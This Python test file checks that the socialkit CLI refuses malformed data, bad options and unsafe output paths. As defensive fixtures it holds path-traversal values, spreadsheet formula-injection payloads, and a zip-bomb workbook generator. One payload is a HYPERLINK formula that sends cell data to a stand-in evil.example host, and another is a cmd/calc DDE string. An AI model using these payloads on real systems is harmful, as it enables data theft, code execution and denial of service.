"""Bad input is refused clearly, and no command destroys a file it did not create.

One table of cases per surface. Each case builds a bad file (or a bad option) next to a copy of
the demo catalog, runs the real entry point (``socialkit.cli.main``) and checks:

* exit code 1, no traceback;
* the message names the file / row / column / option and what was expected;
* nothing was written to ``--out``;
* every file of the good catalog is byte-for-byte what it was.

Every case here failed before this change (a traceback, a silent success, or a good file
replaced); see docs/security.md, "Bad input and safe writes".
"""

from __future__ import annotations

import hashlib
import re
import shutil
import struct
import tracemalloc
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from socialkit.files import MARKER_NAME

DEMO_FIRST = "UA14020100006634663"  # the demo's first municipality


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def cat(demo_dir: Path, tmp_path: Path) -> Path:
    """A private copy of the demo catalog folder (its files may be edited by a case)."""
    folder = tmp_path / "data"
    shutil.copytree(demo_dir, folder)
    (folder / MARKER_NAME).unlink()   # real data: no command of socialkit wrote it
    return folder


def edit_csv(folder: Path, table: str, fn: Callable[[pd.DataFrame], pd.DataFrame]) -> None:
    path = folder / f"{table}.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    fn(frame).to_csv(path, index=False)


def _set(table: str, row: int, column: str, value: str):
    def fn(folder: Path) -> None:
        def edit(f: pd.DataFrame) -> pd.DataFrame:
            f.loc[row, column] = value
            return f
        edit_csv(folder, table, edit)
    return fn


@dataclass(frozen=True)
class Case:
    id: str
    #: (catalog folder, tmp_path) -> argv; may edit the catalog's files first
    setup: Callable[[Path, Path], list]
    #: every fragment must be in the message
    expect: tuple[str, ...]


# -- data that `validate` must refuse (and the analyses after it) ------------------------------
def _validate(edit: Callable[[Path], None]) -> Callable[[Path, Path], list]:
    def setup(folder: Path, tmp: Path) -> list:
        edit(folder)
        return ["validate", "--catalog", folder / "catalog.yaml"]
    return setup


def _no_answers(folder: Path) -> None:
    edit_csv(folder, "maturity_responses", lambda f: f[f["municipality_id"] != DEMO_FIRST])


def _empty_table(folder: Path) -> None:
    edit_csv(folder, "passport_values", lambda f: f.iloc[:0])


def _duplicate_header(folder: Path) -> None:
    path = folder / "settlements.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines = [line + ("," + line.split(",")[7]) for line in lines]  # population twice
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _village_count(folder: Path) -> None:
    st = pd.read_csv(folder / "settlements.csv", dtype=str)
    village = st.loc[st["population"] == "62", "settlement_id"].iloc[0]

    def edit(f: pd.DataFrame) -> pd.DataFrame:
        f.loc[f.index[f["settlement_id"] == village][0], "value"] = "50000"
        return f
    edit_csv(folder, "passport_values", edit)


def _dotdot(folder: Path) -> None:
    def edit(f: pd.DataFrame) -> pd.DataFrame:
        f["municipality_id"] = f["municipality_id"].replace(DEMO_FIRST, "..")
        return f
    for table in ("municipalities", "settlements", "facilities", "passport_values",
                  "maturity_responses", "indicator_values", "indicator_targets", "services"):
        edit_csv(folder, table, edit)


VALIDATE_CASES = [
    Case("negative indicator value", _validate(_set("indicator_values", 0, "value", "-4")),
         ("indicator_values.csv, row 2, column 'value'", "≥ 0")),
    Case("count above the population it is counted in", _validate(_village_count),
         ("passport_values.csv", "column 'value'", "more people counted than live in settlement",
          "(found 50000)", "at most its population, 62")),
    Case("count of 9e18", _validate(_set("municipalities", 0, "population",
                                         "9000000000000000000")),
         ("municipalities.csv, row 2, column 'population'", "≤ 100000000")),
    Case("inf", _validate(_set("municipalities", 1, "area_km2", "inf")),
         ("municipalities.csv, row 3, column 'area_km2'", "a finite number")),
    Case("empty passport table", _validate(_empty_table),
         ("passport_values.csv: the table has no rows",)),
    Case("duplicated header", _validate(_duplicate_header),
         ("settlements.csv, row 1, column 'population'", "more than once")),
    Case("id ..", _validate(_dotdot),
         ("municipalities.csv, row 2, column 'municipality_id'", "found '..'",
          "not '.' or '..'")),
    Case("id with a slash", _validate(_set("settlements", 2, "settlement_id", "a/b")),
         ("settlements.csv, row 4, column 'settlement_id'", "found 'a/b'", "slashes")),
    Case("maturity score 99", _validate(_set("maturity_responses", 0, "score", "99")),
         ("maturity_responses.csv, row 2, column 'score'", "score off the framework's scale",
          "a whole number from 0 to 4")),
    Case("maturity score 2.5", _validate(_set("maturity_responses", 3, "score", "2.5")),
         ("maturity_responses.csv, row 5, column 'score'", "a whole number from 0 to 4")),
    Case("service score above the rubric's scale",
         _validate(_set("service_scores", 0, "score", "7")),
         ("service_scores.csv, row 2, column 'score'", "a number from 0 to 4")),
    Case("municipality without maturity answers", _validate(_no_answers),
         ("municipalities.csv, row 2, column 'municipality_id'", DEMO_FIRST,
          "no answers in any round of maturity_responses")),
]


# -- catalogs and options ----------------------------------------------------------------------
def _catalog_text(text: str) -> Callable[[Path, Path], list]:
    def setup(folder: Path, tmp: Path) -> list:
        bad = tmp / "bad.yaml"
        bad.write_text(text, encoding="utf-8")
        return ["validate", "--catalog", bad]
    return setup


def _a_file(tmp: Path) -> Path:
    f = tmp / "notes.txt"
    f.write_text("mine\n", encoding="utf-8")
    return f


OPTION_CASES = [
    Case("empty catalog", _catalog_text(""), ("bad.yaml: the catalog is empty",
                                              "'version: 2'")),
    Case("catalog that is a list", _catalog_text("- a\n- b\n"),
         ("bad.yaml: the catalog is a list, not a mapping",)),
    Case("passport --lang ../../etc",
         lambda c, t: ["passport", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--lang", "../../etc"], ("--lang: language '../../etc'", "expected one of en, uk")),
    Case("--out is a file", lambda c, t: ["access", "--catalog", c / "catalog.yaml", "--out",
                                          _a_file(t)], ("notes.txt: is a file; expected a folder",)),
    Case("--out in /proc", lambda c, t: ["passport", "--catalog", c / "catalog.yaml", "--out",
                                         "/proc/socialkit-out"], ("a system folder",)),
    Case("monitoring progress --out is a folder",
         lambda c, t: ["monitoring", "progress", "--catalog", c / "catalog.yaml", "--out", t],
         ("is a folder; expected a file name ending in .csv",)),
    Case("report --timeout -1",
         lambda c, t: ["report", "maturity", "--catalog", c / "catalog.yaml", "-m", DEMO_FIRST,
                       "--out", t / "out", "--timeout", "-1"],
         ("--timeout -1.0: expected a number above 0",)),
    Case("report --out is a file",
         lambda c, t: ["report", "maturity", "--catalog", c / "catalog.yaml", "-m", DEMO_FIRST,
                       "--out", _a_file(t)], ("notes.txt: is a file; expected a folder",)),
    Case("maturity --round 2020-13",
         lambda c, t: ["maturity", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--round", "2020-13"], ("--round 2020-13", "month from 01 to 12")),
    Case("maturity --round absent from the data",
         lambda c, t: ["maturity", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--round", "2019-01"], ("--round 2019-01: no municipality answered",)),
    Case("passport --threshold 0",
         lambda c, t: ["passport", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--threshold", "0"], ("--threshold 0: expected a number of at least 1",)),
    Case("passport on an empty passport table",
         lambda c, t: [_empty_table(c), "passport", "--catalog", c / "catalog.yaml", "--out",
                       t / "out"][1:], ("passport_values.csv: the table has no rows",)),
    Case("needs --k 0",
         lambda c, t: ["needs", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--k", "0"], ("--k 0: expected a number of at least 1",)),
    Case("vulnerability --runs -5",
         lambda c, t: ["vulnerability", "--catalog", c / "catalog.yaml", "--out", t / "out",
                       "--runs", "-5"], ("--runs -5: expected a number from 0",)),
]


# -- writers that would replace a good file ----------------------------------------------------
REFUSE = "did not write (or which changed since)"

GUARD_CASES = [
    Case("demo --out a data folder",
         lambda c, t: ["demo", "--out", c], (REFUSE, "municipalities.csv", "--force")),
    Case("export --out the catalog's folder",
         lambda c, t: ["export", "--catalog", c / "catalog.yaml", "--to", "excel", "--out", c],
         (REFUSE, "catalog.yaml")),
    Case("maturity --out the catalog's folder",
         lambda c, t: ["maturity", "--catalog", c / "catalog.yaml", "--out", c],
         (REFUSE, "catalog.yaml")),
    Case("monitoring scorecard --out a data file",
         lambda c, t: ["monitoring", "scorecard", "--catalog", c / "catalog.yaml", "--out",
                       c / "services.csv"], (REFUSE, "services.csv")),
]


def _check(case: Case, cat: Path, tmp_path: Path, cli) -> None:
    argv = case.setup(cat, tmp_path)
    before = snapshot(cat)
    others = {p for p in tmp_path.iterdir()}
    code, text = cli(argv)
    assert code == 1, f"exit {code}: {text}"
    assert "Traceback" not in text, text
    for fragment in case.expect:
        assert fragment in text, f"{fragment!r} not in: {text}"
    assert snapshot(cat) == before, "a file of the good catalog changed"
    assert {p for p in tmp_path.iterdir()} == others, "output written"


@pytest.mark.parametrize("case", VALIDATE_CASES, ids=lambda c: c.id)
def test_validate_refuses(case: Case, cat: Path, tmp_path: Path, cli):
    _check(case, cat, tmp_path, cli)


@pytest.mark.parametrize("case", OPTION_CASES, ids=lambda c: c.id)
def test_bad_option_or_catalog_refused(case: Case, cat: Path, tmp_path: Path, cli):
    _check(case, cat, tmp_path, cli)


@pytest.mark.parametrize("case", GUARD_CASES, ids=lambda c: c.id)
def test_writer_never_replaces_what_it_did_not_write(case: Case, cat: Path, tmp_path: Path,
                                                     cli):
    _check(case, cat, tmp_path, cli)


def test_force_replaces_and_a_rerun_needs_no_force(cat: Path, tmp_path: Path, cli):
    out = tmp_path / "out"
    assert cli(["passport", "--catalog", cat / "catalog.yaml", "--out", out])[0] == 0
    assert cli(["passport", "--catalog", cat / "catalog.yaml", "--out", out])[0] == 0
    (out / "profile.csv").write_text("edited by hand\n", encoding="utf-8")
    code, text = cli(["passport", "--catalog", cat / "catalog.yaml", "--out", out])
    assert code == 1 and "profile.csv" in text and REFUSE in text
    assert (out / "profile.csv").read_text(encoding="utf-8") == "edited by hand\n"
    code, _ = cli(["passport", "--catalog", cat / "catalog.yaml", "--out", out, "--force"])
    assert code == 0 and (out / "profile.csv").read_text(encoding="utf-8") != "edited by hand\n"


# -- monitoring import: the workbook surface ---------------------------------------------------
@pytest.fixture
def book(cat: Path, tmp_path: Path, cli) -> Path:
    path = tmp_path / "book.xlsx"
    assert cli(["monitoring", "export", "--catalog", cat / "catalog.yaml", "--out", path])[0] == 0
    return path


def test_import_refuses_to_replace_a_catalog(book: Path, cat: Path, cli):
    before = snapshot(cat)
    code, text = cli(["monitoring", "import", book, "--out", cat])
    assert code == 1 and REFUSE in text and "catalog.yaml" in text, text
    assert snapshot(cat) == before


def test_import_refuses_formula_cells(book: Path, tmp_path: Path, cli):
    wb = openpyxl.load_workbook(book)
    ws = wb["values"]
    ws["F2"] = "=1+2"        # value
    ws["B3"] = "=A3"         # municipality_id
    wb.save(book)
    code, text = cli(["monitoring", "import", book, "--out", tmp_path / "out"])
    assert code == 1, text
    assert "sheet 'values', row 2, column 'value': a formula, not a value" in text
    assert "row 3, column 'municipality_id': a formula" in text
    assert "paste them as values" in text
    assert not (tmp_path / "out").exists()


def test_excel_catalog_formula_cell_refused_by_validate(cat: Path, tmp_path: Path, cli):
    out = tmp_path / "xl"
    assert cli(["export", "--catalog", cat / "catalog.yaml", "--out", out])[0] == 0
    wb = openpyxl.load_workbook(out / "socialkit_data.xlsx")
    wb["municipalities"]["E3"] = '=UPPER("x")'   # region: a nullable-free text column
    wb.save(out / "socialkit_data.xlsx")
    code, text = cli(["validate", "--catalog", out / "catalog.yaml"])
    assert code == 1, text
    assert "socialkit_data.xlsx, sheet 'municipalities', row 3, column 'region': a formula" \
        in text


# -- formula injection: every Excel and CSV writer writes text as text -------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _evil_catalog(cat: Path) -> None:
    def name(f: pd.DataFrame) -> pd.DataFrame:
        f.loc[0, "name"] = EVIL
        f.loc[1, "name"] = "+cmd|' /C calc'!A0"
        return f
    edit_csv(cat, "municipalities", name)
    edit_csv(cat, "settlements", name)


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_exported_workbooks_hold_no_formulas(cat: Path, tmp_path: Path, cli):
    _evil_catalog(cat)
    assert cli(["export", "--catalog", cat / "catalog.yaml", "--out", tmp_path / "x"])[0] == 0
    assert cli(["maturity", "--catalog", cat / "catalog.yaml", "--out", tmp_path / "m"])[0] == 0
    for book in (tmp_path / "x" / "socialkit_data.xlsx", tmp_path / "m" / "maturity.xlsx"):
        assert _formula_cells(book) == [], book
    wb = openpyxl.load_workbook(tmp_path / "x" / "socialkit_data.xlsx")
    assert wb["municipalities"]["B2"].value == EVIL   # shown and read back as the text


def test_monitoring_workbook_holds_no_formulas(cat: Path, tmp_path: Path, cli):
    def source(f: pd.DataFrame) -> pd.DataFrame:
        f.loc[0, "source"] = EVIL
        return f
    edit_csv(cat, "indicator_values", source)
    book = tmp_path / "book.xlsx"
    assert cli(["monitoring", "export", "--catalog", cat / "catalog.yaml", "--out", book])[0] == 0
    assert _formula_cells(book) == []
    # and the round trip keeps the text
    assert cli(["monitoring", "import", book, "--out", tmp_path / "back"])[0] == 0
    back = pd.read_csv(tmp_path / "back" / "indicator_values.csv", dtype=str)
    assert back.loc[0, "source"] in (EVIL, "'" + EVIL)


def test_csv_outputs_escape_formula_text(cat: Path, tmp_path: Path, cli):
    _evil_catalog(cat)
    assert cli(["passport", "--catalog", cat / "catalog.yaml", "--out", tmp_path / "a"])[0] == 0
    text = (tmp_path / "a" / "by_settlement.csv").read_text(encoding="utf-8")
    cells = [c for line in text.splitlines() for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
    assert "'=HYPERLINK(" in text


# -- zip bomb ------------------------------------------------------------------------------------
def _zip(entries: list[tuple[str, bytes | tuple[bytes, int, int]]]) -> bytes:
    """A zip archive; an entry is raw bytes or (deflated bytes, crc32, uncompressed size)."""
    out, central = bytearray(), bytearray()
    for name, data in entries:
        if isinstance(data, bytes):
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = c.compress(data) + c.flush()
            crc, size = zlib.crc32(data), len(data)
        else:
            comp, crc, size = data
        fname = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), size,
                           len(fname), 0) + fname + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                               len(comp), size, len(fname), 0, 0, 0, 0, 0, offset) + fname
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                       start, 0)
    return bytes(out)


def _bomb(path: Path, megabytes: int = 800) -> None:
    """An .xlsx whose 'values' sheet inflates to ``megabytes`` MB of rows.

    Deflate blocks ended by a full flush are independent, so one compressed 1 MB block is
    repeated: the file is ~3 MB and is made in about a second.
    """
    wb = openpyxl.Workbook()
    wb.active.title = "values"
    wb.active.append(["indicator_id", "municipality_id", "period", "sex", "age_group", "value",
                      "source"])
    wb.create_sheet("targets").append(["indicator_id", "municipality_id", "period", "sex",
                                       "age_group", "kind", "value"])
    wb.save(path)
    with __import__("zipfile").ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    head = parts["xl/worksheets/sheet1.xml"].split(b"</sheetData>")[0]
    head = head.replace(b"<sheetData/>", b"<sheetData>")
    # no <dimension>: a reader must then parse every row to size the sheet
    head = re.sub(rb"<dimension [^>]*/>", b"", head)
    row = (b'<row><c t="inlineStr"><is><t>population</t></is></c><c t="inlineStr"><is><t>'
           + DEMO_FIRST.encode() + b'</t></is></c></row>')
    block = row * (2**20 // len(row))
    tail = b"</sheetData></worksheet>"

    def deflate(data: bytes, final: bool = False) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    b = deflate(block)
    comp = deflate(head) + b * megabytes + deflate(tail, final=True)
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(block) * megabytes + len(tail)
    parts["xl/worksheets/sheet1.xml"] = (comp, crc, size)
    path.write_bytes(_zip(list(parts.items())))


def test_zip_bomb_refused_in_bounded_memory(tmp_path: Path, cli):
    """Refused before anything is inflated: the peak memory is a fraction of the 800 MB the
    workbook would inflate to (speed is for benchmarks: a time limit here failed on a loaded
    machine, at the base commit too)."""
    bomb = tmp_path / "bomb.xlsx"
    _bomb(bomb)
    assert bomb.stat().st_size < 4 * 2**20
    tracemalloc.start()
    try:
        code, text = cli(["monitoring", "import", bomb, "--out", tmp_path / "out"])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert code == 1 and "Traceback" not in text, text
    assert "bomb.xlsx: the workbook inflates to 800 MB" in text
    assert "at most 512 MB of uncompressed content" in text
    assert peak < 64 * 2**20, peak
    assert not (tmp_path / "out").exists()


# -- the maturity report names the data that breaks it ----------------------------------------
def test_maturity_report_names_a_municipality_without_answers(cat: Path):
    """The report used to fail with 'cell 7: IndexError: list index out of range' (HoloViews
    ticks of an empty progress chart) for a municipality without any answers."""
    from socialkit.errors import DataValidationError
    from socialkit.maturity import report
    from socialkit.maturity.files import assess_catalog, responses_source

    _no_answers(cat)
    result = assess_catalog(cat / "catalog.yaml")
    with pytest.raises(DataValidationError) as err:
        report.require_round(result, DEMO_FIRST, None, responses_source(cat / "catalog.yaml"))
    text = str(err.value)
    assert f"no digital-maturity answers for municipality {DEMO_FIRST}" in text
    assert "maturity_responses.csv, column 'municipality_id'" in text
    assert "socialkit validate" in text
